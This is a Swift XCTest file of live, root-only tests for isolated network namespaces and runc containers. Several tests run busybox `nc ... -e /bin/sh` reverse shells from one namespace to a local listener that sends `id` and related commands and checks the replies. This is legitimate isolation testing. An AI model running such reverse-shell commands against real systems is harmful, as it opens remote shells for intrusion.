// SPDX-License-Identifier: Apache-2.0
// Live: the TEST-NET-2 namespace pair and its listener. A process in namespace B (on the host, then
// inside a runc container) runs a busybox `nc -e /bin/sh` reverse shell to the listener in A, which
// sends a command and captures the answer; teardown leaves no namespace behind. Root only.

import Foundation
import XCTest

final class ContainersNetworkLiveTests: XCTestCase {
    override func setUpWithError() throws {
        try requireRoot("network namespace tests")
        try requireTools([(path: TestNetwork.ip, package: "iproute2"), (path: NetnsListener.python, package: "python3"),
                          (path: BusyboxRootfs.busybox, package: "busybox-static"), (path: RuncContainer.runc, package: "runc")])
    }

    private func makeNetwork() throws -> TestNetwork {
        let network = try TestNetwork()
        addTeardownBlock { network.teardown() }
        return network
    }

    func testHostProcessInBReverseShellsToListenerInA() throws {
        let network = try makeNetwork()
        let listener = try network.startListener(sending: "id")

        let client = try network.runInB([BusyboxRootfs.busybox, "nc", TestNetwork.addressA, String(listener.port), "-e", "/bin/sh"],
                                        timeout: .seconds(20))
        let result = try listener.result()

        XCTAssertFalse(client.timedOut, "\(client)")
        XCTAssertEqual(result.peer?.hasPrefix("\(TestNetwork.addressB):"), true, "peer \(String(describing: result.peer))")
        XCTAssertTrue(result.received.hasPrefix("uid=0(root) gid=0(root)"), result.received.debugDescription)
    }

    func testContainerInBReverseShellsToListenerInA() throws {
        let network = try makeNetwork()
        var configuration = RuncContainer.Configuration()
        configuration.networkNamespacePath = network.pathB
        let container = try RuncContainer(configuration)
        addTeardownBlock { container.stop() }
        try container.start()
        let listener = try network.startListener(sending: "id; hostname; cat /proc/self/cgroup")

        let shellPID = try container.execDetached(["nc", TestNetwork.addressA, String(listener.port), "-e", "/bin/sh"])
        let result = try listener.result()

        XCTAssertGreaterThan(shellPID, 0)
        XCTAssertEqual(result.peer?.hasPrefix("\(TestNetwork.addressB):"), true, "peer \(String(describing: result.peer))")
        XCTAssertTrue(result.received.hasPrefix("uid=0(root) gid=0(root)"), result.received.debugDescription)
        XCTAssertTrue(result.received.contains("\n\(configuration.podName)\n"), "hostname is the container's: \(result.received)")
        XCTAssertTrue(result.received.contains(container.cgroupsPath), "the shell ran in the container's cgroup: \(result.received)")
    }

    func testContainerWithoutTheNamespaceCannotReachTheListener() throws {
        let network = try makeNetwork()
        let container = try RuncContainer()  // its own, empty network namespace
        addTeardownBlock { container.stop() }
        try container.start()
        let listener = try network.startListener(sending: "id", timeout: .seconds(2))

        let attempt = try container.exec(["nc", "-w", "1", TestNetwork.addressA, String(listener.port), "-e", "/bin/sh"],
                                         timeout: .seconds(10))
        let result = try listener.result()

        XCTAssertNotEqual(attempt.status, 0, "\(attempt)")
        XCTAssertNil(result.peer)
        XCTAssertEqual(result.received, "")
    }

    func testListenerWithNoClientStopsAtItsDeadline() throws {
        let network = try makeNetwork()
        let listener = try network.startListener(sending: "id", timeout: .seconds(1))

        let result = try listener.result()

        XCTAssertNil(result.peer)
        XCTAssertEqual(result.received, "")
    }

    func testListenerStopsReadingAtMaxBytes() throws {
        let network = try makeNetwork()
        let listener = try network.startListener(sending: "ignored", timeout: .seconds(10), maxBytes: 100)

        // The client floods 100 KiB; the listener must keep only 100 bytes and close.
        let client = try network.runInB(["/bin/sh", "-c",
            "\(BusyboxRootfs.busybox) head -c 102400 /dev/zero | \(BusyboxRootfs.busybox) tr '\\0' x | \(BusyboxRootfs.busybox) nc \(TestNetwork.addressA) \(listener.port)"],
            timeout: .seconds(15))
        let result = try listener.result()

        XCTAssertFalse(client.timedOut, "\(client)")
        XCTAssertNotNil(result.peer)
        XCTAssertEqual(result.received.utf8.count, 100)
        XCTAssertTrue(result.received.allSatisfy { $0 == "x" })
    }

    func testTeardownDeletesBothNamespaces() throws {
        let network = try TestNetwork()
        addTeardownBlock { network.teardown() }
        let before = TestNetwork.existingNamespaces()
        XCTAssertTrue(before.contains(network.namespaceA))
        XCTAssertTrue(before.contains(network.namespaceB))
        let ping = try network.runInB([BusyboxRootfs.busybox, "ping", "-c", "1", "-W", "2", TestNetwork.addressA])
        XCTAssertEqual(ping.status, 0, "veth pair carries traffic: \(ping)")

        network.teardown()

        let after = TestNetwork.existingNamespaces()
        XCTAssertFalse(after.contains(network.namespaceA))
        XCTAssertFalse(after.contains(network.namespaceB))
        XCTAssertFalse(FileManager.default.fileExists(atPath: network.pathA))
        XCTAssertFalse(FileManager.default.fileExists(atPath: network.pathB))
    }
}
